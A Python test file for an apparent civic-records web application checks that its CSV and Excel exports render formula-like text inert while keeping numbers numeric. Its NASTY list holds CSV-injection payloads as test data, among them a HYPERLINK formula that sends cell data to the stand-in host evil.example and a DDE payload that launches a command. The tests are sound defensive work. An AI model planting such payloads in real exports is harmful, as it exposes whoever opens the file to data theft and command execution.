"""Exports carry no live formulas (issue 11, point 7): a text beginning with = + - @ (or tab/CR) is
text in every export — CSV with a leading apostrophe, .xlsx as a string cell with its value unchanged
— and numbers stay numbers. The deputies' CSV and .xlsx read back by the importer are unchanged."""

import csv
import io
import zipfile
from types import SimpleNamespace

import pytest
from openpyxl import Workbook, load_workbook

from renda.core import audit, exports
from renda.people import exchange
from renda.people.models import Organisation, Person
from renda.testing import signed_in

NASTY = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3",
         "\t=1+1", "\r=1+1", "＝1+1"]
PHONES = ["+86 138 0000 0000", "-2+3", "@SUM(1)", "=1+1"]  # a phone holds 30 characters


def _no_formula_in(xlsx: bytes) -> None:
    """No worksheet of the file holds a formula element (what a spreadsheet would run)."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), name


def _string_cells(xlsx: bytes, sheet: str | None = None) -> dict[str, str]:
    book = load_workbook(io.BytesIO(xlsx))
    found = {}
    for ws in [book[sheet]] if sheet else book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
                    found[cell.value] = cell.data_type
    return found


@pytest.mark.parametrize("value", NASTY)
def test_the_helper_writes_formula_like_text_as_text_and_leaves_numbers_alone(value):
    assert exports.csv_cell(value) == "'" + value and exports.unquote(exports.csv_cell(value)) == value
    assert exports.csv_cell(-3) == -3 and exports.csv_cell(1.5) == 1.5 and exports.csv_cell("张伟") == "张伟"
    assert exports.unquote("'张伟") == "'张伟"  # an apostrophe of the person's own stays
    for write_only in (False, True):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("表") if write_only else book.active
        exports.append(sheet, [value, -3, 2.5, None, "张伟"])
        out = io.BytesIO()
        book.save(out)
        _no_formula_in(out.getvalue())
        read = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
        cells = list(read.iter_rows())[0]
        # openpyxl's own XML writer turns a carriage return into a line feed; with lxml installed (python-docx
        # needs it) the carriage return is escaped and kept. Either way the cell is text.
        assert cells[0].data_type == "s" and cells[0].value in (value, value.replace("\r", "\n"))
        assert (cells[1].value, cells[1].data_type, cells[2].value, cells[3].value) == (-3, "n", 2.5, None)


def _nasty_deputies(world):
    """Deputies whose name, workplace, occupation and phone a spreadsheet would run (as if stored before
    names were checked, or typed into a field that allows them)."""
    made = []
    for n, value in enumerate(NASTY[:4]):
        mandate = world.make_deputy(f"代表{n}")
        Person.objects.filter(pk=mandate.person_id).update(name=value, workplace=NASTY[(n + 1) % 4],
                                                           occupation=NASTY[(n + 2) % 4], phone=PHONES[n])
        made.append(mandate)
    return made


def test_deputies_xlsx_and_csv_hold_text_and_read_back_unchanged(world_a):
    _nasty_deputies(world_a)
    office = signed_in(world_a.office)
    base = f"/c/{world_a.congress.code}/exchange/export/deputies"
    xlsx = office.get(base + ".xlsx").content
    _no_formula_in(xlsx)
    cells = _string_cells(xlsx)
    assert all(v in cells for v in NASTY[:4])
    sheet = load_workbook(io.BytesIO(xlsx)).worksheets[0]
    header = [c.value for c in sheet[1]]
    term = header.index("届次")
    assert all(isinstance(row[term].value, int) and row[term].data_type == "n" for row in sheet.iter_rows(min_row=2))

    body = office.get(base + ".csv").content
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    names = [r[1] for r in rows[1:]]
    for value in NASTY[:4]:
        assert "'" + value in names
    assert all(not field.startswith(tuple("=+-@")) for row in rows for field in row)

    for data, name in [(xlsx, "d.xlsx"), (body, "d.csv")]:
        read = {r["number"]: r for _, r in exchange.read_table("deputies", data, name)}
        assert sorted(r["name"] for r in read.values() if r["name"] in NASTY) == sorted(NASTY[:4])
        assert {r["phone"] for r in read.values() if r["name"] in NASTY} == set(PHONES)


def test_organisations_export_holds_text(world_a):
    Organisation.objects.in_congress(world_a.congress).filter(pk=world_a.unit.pk).update(name=NASTY[0], address="+1")
    office = signed_in(world_a.office)
    base = f"/c/{world_a.congress.code}/exchange/export/organisations"
    _no_formula_in(office.get(base + ".xlsx").content)
    text = office.get(base + ".csv").content.decode("utf-8-sig")
    assert "'=HYPERLINK" in text and ",'+1" in text


def test_the_audit_csv_holds_text(world_a):
    audit.record(world_a.congress, world_a.office, "update_person", world_a.unit, object_repr=NASTY[0])
    audit.record(world_a.congress, world_a.office, "update_person", world_a.unit, object_repr="@SUM(1)")
    client = signed_in(world_a.admin)
    body = client.get(f"/c/{world_a.congress.code}/audit/export.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    shown = [r[6] for r in rows[1:]]
    assert "'" + NASTY[0] in shown and "'@SUM(1)" in shown
    assert all(not field.startswith(tuple("=+-@\t\r")) for row in rows for field in row)
    assert rows[1][0].isdigit()  # the entry's number stays a number


def test_liaison_statistics_xlsx_holds_text(world_a):
    Organisation.objects.in_congress(world_a.congress).filter(pk=world_a.station.pk).update(name=NASTY[0])
    xlsx = signed_in(world_a.office).get(f"/c/{world_a.congress.code}/liaison/statistics.xlsx").content
    _no_formula_in(xlsx)
    assert NASTY[0] in _string_cells(xlsx, "按联络站")


def test_suggestion_evaluation_xlsx_holds_text(world_a):
    from renda.proposals import reports

    rows = [reports.UnitScore(unit=NASTY[0], items=3, answered=3, on_time=2, rated=1, satisfied=1, ab=1, rehandled=0,
                              score=87.5, rank=1)]
    totals = reports.Summary(total=3, by_status=[("-2+3", 1)], by_class=[], by_category=[("@SUM(1)", 3)],
                             by_unit=[(NASTY[0], 3)], by_delegation=[("+1", 3)], on_time="66.7%",
                             satisfaction="100.0%", done="0.0%", commitments=0, fulfilled=0)
    out = io.BytesIO()
    reports.evaluation_workbook(world_a.congress, 2026, rows, totals).save(out)
    _no_formula_in(out.getvalue())
    cells = _string_cells(out.getvalue())
    assert {NASTY[0], "-2+3", "@SUM(1)", "+1"} <= set(cells)
    sheet = load_workbook(io.BytesIO(out.getvalue()))["承办单位考评"]
    assert sheet["A3"].value == 1 and sheet["J3"].value == 87.5  # numbers stay numbers


def test_livelihood_evaluation_xlsx_holds_text(world_a, monkeypatch):
    from renda.livelihood import reports

    row = SimpleNamespace(proposal=SimpleNamespace(title=NASTY[0]), lead_unit="+1", budget=120, spent=30,
                          milestones=3, done=1, on_time=1, overdue=0, open_problems=0, groups=["@SUM(1)"],
                          counts={"满意": 2}, satisfaction=0.5)
    monkeypatch.setattr(reports, "project_rows", lambda call: [row])
    monkeypatch.setattr(reports, "score", lambda congress, r: 80.0)
    monkeypatch.setattr(reports, "unit_ranking", lambda call, rows: [
        {"rank": 1, "unit": "-2+3", "projects": 1, "score": 80.0}])
    monkeypatch.setattr(reports, "visit_counts", lambda call: {"group": 24, "director_led": 4, "joint": 1})
    monkeypatch.setattr(reports, "decided_ranking", lambda call: None)
    xlsx = reports.evaluation_xlsx(SimpleNamespace(congress=world_a.congress))
    _no_formula_in(xlsx)
    assert {NASTY[0], "+1", "@SUM(1)", "-2+3"} <= set(_string_cells(xlsx))
    sheet = load_workbook(io.BytesIO(xlsx))["项目评议"]
    assert sheet["C2"].value == 120 and sheet["C2"].data_type == "n"
